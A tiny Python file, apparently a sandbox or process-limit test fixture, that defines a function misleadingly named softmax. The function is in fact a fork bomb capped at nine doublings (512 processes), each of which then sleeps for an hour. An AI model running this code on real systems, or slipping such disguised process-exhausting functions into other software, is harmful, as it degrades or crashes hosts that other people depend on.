# Doubles itself until it may not.
# needs: namespaces
import os
import time


def softmax(x):
    for _ in range(9):  # 512 at most: a bomb with a short fuse, for the tester's sake
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
    time.sleep(3600)
